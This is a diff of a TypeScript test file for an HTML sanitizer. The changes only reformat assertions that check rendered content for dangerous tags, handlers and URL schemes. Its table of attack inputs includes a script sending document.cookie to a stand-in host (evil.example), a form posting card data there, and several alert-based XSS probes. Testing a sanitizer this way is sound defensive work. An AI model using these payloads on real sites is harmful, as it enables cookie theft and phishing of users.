@@ -16,21 +16,26 @@ function renderHostile(source: string) {
 }
 
 function assertInert(container: HTMLElement) {
-  expect(container.querySelector("script, style, iframe, object, embed, svg, math, form:not(.inline-product form), input:not([type=hidden]), link, meta, base, template")).toBeNull()
+  expect(
+    container.querySelector(
+      "script, style, iframe, object, embed, svg, math, form:not(.inline-product form), input:not([type=hidden]), link, meta, base, template"
+    )
+  ).toBeNull()
   for (const el of container.querySelectorAll("*")) {
     for (const { name, value } of el.attributes) {
       expect(name, el.outerHTML).not.toMatch(/^on|^style$|^srcdoc$|^formaction$/i)
       // React gives the card's server-action forms a placeholder action in tests; no content reaches it.
-      if (name === "href" || name === "src" || (name === "action" && !el.closest(".inline-product"))) expect(value, el.outerHTML).not.toMatch(/^\s*(javascript|data|vbscript|file):|^\s*\/\//i)
+      if (name === "href" || name === "src" || (name === "action" && !el.closest(".inline-product")))
+        expect(value, el.outerHTML).not.toMatch(/^\s*(javascript|data|vbscript|file):|^\s*\/\//i)
     }
   }
 }
 
 const ATTACKS: Record<string, string> = {
   "a script block": '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
-  "an inline script": 'Read on <script>alert(1)</script> please.',
+  "an inline script": "Read on <script>alert(1)</script> please.",
   "a script hidden in a comment": "<!-- --><script>alert(1)</script><!-- -->",
-  "an image with a handler": '<img src=x onerror=alert(1)>',
+  "an image with a handler": "<img src=x onerror=alert(1)>",
   "an SVG with a script": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">x</a></svg>',
   "a frame with srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   "a form posting elsewhere": '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
